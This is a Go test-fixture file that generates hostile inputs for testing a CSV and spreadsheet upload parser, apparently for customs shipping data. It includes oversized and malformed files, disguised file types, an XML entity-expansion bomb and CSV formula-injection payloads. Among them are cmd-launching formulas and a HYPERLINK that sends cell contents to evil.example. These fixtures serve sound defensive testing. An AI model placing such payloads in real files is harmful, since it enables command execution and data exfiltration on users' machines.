package hostile

import (
	"bytes"
	"math/rand/v2"
	"strings"
)

// repeated is a text of about so many bytes.
func repeated(text string, bytes int) func(Surroundings) []byte {
	return func(Surroundings) []byte { return []byte(strings.Repeat(text, bytes/len(text))) }
}

// texts are csv files.
var texts = []trap{
	{"line.csv", "one line of 60 MB", repeated("Seller,", 60<<20)},
	{"cell.csv", "one cell of 20 MB", repeated("Seller ", 20<<20)},
	{"cell-quoted.csv", "one cell of 20 MB that is not closed", constant(func() []byte { return []byte(`Seller,"` + strings.Repeat("Acme\n", 20<<20/5)) })},
	{"lines.csv", "20 MB of nothing but line ends", repeated("\n", 20<<20)},
	{"commas.csv", "60 MB of nothing but commas", repeated(",", 60<<20)},
	{"quotes.csv", "10 MB of nothing but quotes", repeated(`"`, 10<<20)},
	{"quotes-lines.csv", "a quote at the end of each line", repeated("a\"\n", 20<<20)},
	{"quotes-open.csv", "a line of cells whose quotes are not closed", repeated(`"x,`, 20<<20)},
	{"returns.csv", "20 MB of carriage returns between quotes", repeated("\"\r\"\r", 20<<20)},
	{"zeros.csv", "20 MB of NUL bytes", repeated("\x00", 20<<20)},
	{"zeros-between.csv", "NUL bytes between the letters", repeated("Sel\x00ler,Acme\n", 2<<20)},
	{"labels.csv", "as many labels as there may be", repeated("Seller,Buyer,HTS,Vessel,Container No\n", 49_000*37)},
	{"table.csv", "a table with as many rows as there may be", constant(func() []byte {
		return []byte("House B/L,Seller,HTS,Container No,Gross Weight\n" + numbered("ABCD%07[1]d,Acme %[1]d,9403.60.8081,MSKU%07[1]d,100 KGS\n", 49_000))
	})},
	{"form.csv", "a form with a value of 3 MB", constant(func() []byte {
		return []byte("House B/L,ABCD1234567\nSeller,\"" + strings.Repeat("Acme Road 12\n", 3<<20/13) + "\"\nHTS,9403.60\n")
	})},
	{"halves.csv", "UTF-16 with halves of characters, and half a character at its end", constant(func() []byte {
		return append([]byte("\xff\xfe"), strings.Repeat(wide("Seller,Acme\n")+"\x00\xd8\x00\xdc\x00\xdc\x00\xd8", 50_000)+"\x00"...)
	})},
	{"utf-8-broken.csv", "bytes that no encoding has", repeated("Seller,\xc0\xaf\xed\xa0\x80\xf8\x88\x80\x80\x80\xff\n", 2<<20)},
	{"noise.csv", "20 MB of noise", constant(func() []byte {
		noise, random := make([]byte, 20<<20), rand.New(rand.NewPCG(1, 2))
		for i := range noise {
			noise[i] = byte(random.Uint32())
		}
		return noise
	})},
	{"chinese.csv", "20 MB of Chinese in GB 18030", repeated("\xcd\xd0\xd4\xcb\xc8\xcb,\xcf\xc3\xc3\xc5\n", 20<<20)},
	{"digits.csv", "a number of a megabyte", constant(func() []byte {
		return []byte("House B/L,ABCD1234567\nGross Weight," + strings.Repeat("9", 1<<20) + "\nHTS," + strings.Repeat("1.", 1<<19) + "\nContainer No," + strings.Repeat("MSKU1234565,", 1<<16) + "\n")
	})},
	{"formulas.csv", "texts that a spreadsheet program would take for formulas", constant(func() []byte {
		return []byte("Importer Security Filing\nHouse B/L,=cmd|'/c calc'!A1\nMaster B/L,+1+cmd|'/c calc'!A1\nSeller,=HYPERLINK(\"http://evil.example/?\"&A1)\nBuyer,@SUM(A1:A9)\nHTS,-2+3+cmd|' /C calc'!A0\nContainer No,\t=1+1\nGross Weight,=1+1\nETD,\r=1+1\n")
	})},
}

// disguises are files that are something else than their names say.
var disguises = []trap{
	{"gzip.xlsx", "gzip", repeated("\x1f\x8b\x08\x00\x00\x00\x00\x00", 1<<16)},
	{"pdf.xlsx", "a PDF", repeated("%PDF-1.7\n", 1<<16)},
	{"picture.csv", "a picture", repeated("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", 1<<16)},
	{"program.xls", "a program", repeated("MZ\x90\x00\x03\x00\x00\x00", 1<<16)},
	{"page.xls", "a page that loads things", func(around Surroundings) []byte {
		return []byte(`<html><head><meta http-equiv="refresh" content="0;url=` + around.Lure + `/page"><link rel="stylesheet" href="` + around.Lure + `/style"></head><body><iframe src="` + around.Lure + `/frame"></iframe><table><tr><td>Seller</td><td>Acme</td></tr></table></body></html>`)
	}},
	{"bomb.xml", "entities in entities as XML of a spreadsheet", constant(func() []byte {
		return []byte(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "` + strings.Repeat("a", 1000) + `"><!ENTITY b "` + strings.Repeat("&a;", 1000) + `"><!ENTITY c "` + strings.Repeat("&b;", 1000) + `">]><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">&c;</Workbook>`)
	})},
	{"sevenzip.xlsx", "7-Zip", repeated("7z\xbc\xaf\x27\x1c\x00\x04", 1<<16)},
	{"json.csv", "JSON that nests a million times", repeated("[", 1<<20)},
	{"nothing.xlsx", "no byte at all", constant(func() []byte { return nil })},
	{"blank.csv", "nothing but spaces", constant(func() []byte { return bytes.Repeat([]byte(" "), 1<<20) })},
}
